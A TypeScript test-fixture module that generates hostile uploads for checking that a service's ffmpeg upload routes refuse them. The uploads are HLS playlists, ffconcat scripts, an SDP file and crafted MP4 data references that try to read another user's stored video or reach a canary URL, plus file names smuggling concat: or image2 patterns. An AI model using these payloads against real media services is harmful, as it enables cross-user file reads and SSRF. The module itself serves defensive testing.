import { execFile } from "node:child_process";
import { readFile } from "node:fs/promises";
import path from "node:path";
import { promisify } from "node:util";

// Files that are not one self-contained video but make ffmpeg read something else: another
// user's stored file, an internal URL, a UDP socket. Each is small and made at test time. Shared
// by the upload tests and meant for any fuzzer of the upload routes: every one must be refused.

const run = promisify(execFile);

/** One hostile upload: what it tries, the name it is uploaded under, and its bytes. */
export interface HostileFile {
  attack: string;
  fileName: string;
  bytes: Buffer;
}

export interface HostileOptions {
  /** A directory for the ffmpeg-made base of the MP4 cases. */
  dir: string;
  /** An HTTP server the test watches: no request may reach it. */
  canaryUrl: string;
  /** A stored video's id: the relative paths point at `../{victimId}/video.mp4`. */
  victimId?: string;
}

const text = (value: string) => Buffer.from(value, "utf8");

/** The smallest PNG (1x1 grey): image2/png_pipe reads it as a one-frame video. */
const PNG_1X1 = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNgAAAAAgABSK+kcQAAAABJRU5ErkJggg==",
  "base64",
);

const playlist = (...lines: string[]) =>
  text(["#EXTM3U", "#EXT-X-TARGETDURATION:10", ...lines, "#EXT-X-ENDLIST", ""].join("\n"));

const segment = (uri: string) => ["#EXTINF:10,", uri];

const ffconcat = (...files: string[]) =>
  text(["ffconcat version 1.0", ...files.map((f) => `file '${f}'`), ""].join("\n"));

/** The cases made of text and images: playlists, scripts, descriptors, subtitles, a PNG. */
export function hostileTextMedia({
  canaryUrl,
  victimId = "x",
}: Omit<HostileOptions, "dir">): HostileFile[] {
  const victim = `../${victimId}/video.mp4`;
  return [
    {
      attack: "HLS playlist with a local segment (another user's video)",
      fileName: "holiday.mp4",
      bytes: playlist(...segment(victim)),
    },
    {
      attack: "HLS playlist with an http segment (SSRF)",
      fileName: "trip.mp4",
      bytes: playlist(...segment(`${canaryUrl}/segment.ts`)),
    },
    {
      attack: "HLS playlist with a concat: segment",
      fileName: "joined.mp4",
      bytes: playlist(...segment(`concat:${victim}|${victim}`)),
    },
    {
      attack: "HLS playlist with data: and crypto: segments",
      fileName: "inline.mov",
      bytes: playlist(
        ...segment("data:video/mp2t;base64,RwAAEA=="),
        ...segment(`crypto:${victim}`),
      ),
    },
    {
      attack: "HLS master playlist with a WebVTT subtitle rendition elsewhere",
      fileName: "subtitled.mp4",
      bytes: text(
        [
          "#EXTM3U",
          `#EXT-X-MEDIA:TYPE=SUBTITLES,GROUP-ID="s",NAME="en",URI="${canaryUrl}/subs.m3u8"`,
          '#EXT-X-STREAM-INF:BANDWIDTH=100000,SUBTITLES="s"',
          victim.replace(/video\.mp4$/, "video.m3u8"),
          "",
        ].join("\n"),
      ),
    },
    {
      attack: "ffconcat script naming another user's video",
      fileName: "reel.mp4",
      bytes: ffconcat(victim),
    },
    {
      attack: "ffconcat script with subfile:, tee: and rtp: entries",
      fileName: "montage.mkv",
      bytes: ffconcat(
        `subfile,,start,0,end,0,,:${victim}`,
        `tee:${victim}|/tmp/copy.mp4`,
        "rtp://127.0.0.1:5004",
      ),
    },
    {
      attack: "SDP session description (RTP over UDP)",
      fileName: "stream.mp4",
      bytes: text(
        [
          "v=0",
          "o=- 0 0 IN IP4 127.0.0.1",
          "s=demo",
          "c=IN IP4 127.0.0.1",
          "t=0 0",
          "m=video 5004 RTP/AVP 96",
          "a=rtpmap:96 H264/90000",
          "",
        ].join("\r\n"),
      ),
    },
    {
      attack: "WebVTT subtitle file",
      fileName: "captions.mp4",
      bytes: text("WEBVTT\n\n00:00.000 --> 00:01.000\nhello\n"),
    },
    {
      attack: "ASS subtitle script",
      fileName: "karaoke.mkv",
      bytes: text(
        "[Script Info]\nScriptType: v4.00+\n\n[Events]\n" +
          "Format: Layer, Start, End, Style, Text\nDialogue: 0,0:00:00.00,0:00:01.00,Default,hi\n",
      ),
    },
    {
      attack: "a PNG named as an image2 sequence pattern",
      fileName: "img%03d.png",
      bytes: PNG_1X1,
    },
    {
      attack: "a PNG named as a concat: URL",
      fileName: `concat:${victim}|x.mp4`,
      bytes: PNG_1X1,
    },
  ];
}

// ISO BMFF boxes: the containers on the way from the top to a track's data references.
export const DREF_PATH = ["moov", "trak", "mdia", "minf", "dinf", "dref"];

export function box(type: string, payload: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(8 + payload.length, 0);
  head.write(type, 4, "latin1");
  return Buffer.concat([head, payload]);
}

/** `bytes` with the first box at `boxPath` replaced by `replacement`, its parents' sizes fixed. */
export function replaceBox(bytes: Buffer, boxPath: string[], replacement: Buffer): Buffer {
  const [type, ...rest] = boxPath;
  let at = 0;
  while (at + 8 <= bytes.length) {
    const size = bytes.readUInt32BE(at);
    if (size < 8) break;
    if (bytes.toString("latin1", at + 4, at + 8) === type) {
      const inner = rest.length
        ? box(type!, replaceBox(bytes.subarray(at + 8, at + size), rest, replacement))
        : replacement;
      return Buffer.concat([bytes.subarray(0, at), inner, bytes.subarray(at + size)]);
    }
    at += size;
  }
  throw new Error(`no ${type} box`);
}

/** A 'dref' box of one entry. */
const dref = (entry: Buffer) =>
  box("dref", Buffer.concat([Buffer.from([0, 0, 0, 0, 0, 0, 0, 1]), entry]));

/** A data reference entry: its type, version 0 and `flags` (bit 0: the data is in this file). */
function drefEntry(type: string, flags: number, body: Buffer): Buffer {
  const head = Buffer.alloc(4);
  head.writeUInt32BE(flags & 0xffffff, 0);
  return box(type, Buffer.concat([head, body]));
}

/**
 * A Mac alias record as QuickTime writes it for a track whose samples are in another file: the
 * volume, the file name, the levels up from this file and down to the target, then the absolute
 * path; the mov demuxer opens `../{dir}/{file}` next to the movie when drefs are enabled.
 */
function aliasRecord(target: string): Buffer {
  const fixed = Buffer.alloc(150);
  const volume = "Volume";
  fixed.writeUInt8(volume.length, 10);
  fixed.write(volume, 11, "latin1");
  const name = path.posix.basename(target);
  fixed.writeUInt8(name.length, 50);
  fixed.write(name, 51, "latin1");
  fixed.writeInt16BE(2, 130);
  fixed.writeInt16BE(2, 132);
  const absolute = Buffer.from(`${volume}${target.replace(/^\.\.\//, "/")}`, "latin1");
  const padded = Buffer.concat([absolute, Buffer.alloc(absolute.length % 2)]);
  const tlv = Buffer.alloc(4);
  tlv.writeUInt16BE(2, 0);
  tlv.writeUInt16BE(absolute.length, 2);
  return Buffer.concat([fixed, tlv, padded, Buffer.from([0xff, 0xff, 0, 0])]);
}

/** A real H.264 MP4 (its index after the media, so growing it moves no sample) made by ffmpeg. */
export async function baseMp4(dir: string): Promise<Buffer> {
  const out = path.join(dir, "hostile-base.mp4");
  await run("ffmpeg", [
    ...["-hide_banner", "-loglevel", "error", "-y", "-f", "lavfi"],
    ...["-i", "testsrc2=size=160x120:rate=15:duration=1", "-c:v", "libx264"],
    ...["-preset", "ultrafast", "-f", "mp4", out],
  ]);
  return readFile(out);
}

/** MP4s that are valid movies but whose track data lives in another file or at a URL. */
async function referenceCases(dir: string, victim: string, canaryUrl: string) {
  const mp4 = await baseMp4(dir);
  const alias = drefEntry("alis", 0, aliasRecord(victim));
  const url = drefEntry("url ", 0, Buffer.from(`${canaryUrl}/media.mp4\0`, "latin1"));
  return [
    {
      attack: "MP4 whose track is an alias of another user's video (dref 'alis')",
      fileName: "alias.mp4",
      bytes: replaceBox(mp4, DREF_PATH, dref(alias)),
    },
    {
      attack: "MP4 whose track data is at a URL (dref 'url ' not self-contained)",
      fileName: "remote.mp4",
      bytes: replaceBox(mp4, DREF_PATH, dref(url)),
    },
  ];
}

/** Every hostile file: the text cases, then the MP4s whose tracks are elsewhere. */
export async function hostileMedia(options: HostileOptions): Promise<HostileFile[]> {
  const victim = `../${options.victimId ?? "x"}/video.mp4`;
  return [
    ...hostileTextMedia(options),
    ...(await referenceCases(options.dir, victim, options.canaryUrl)),
  ];
}
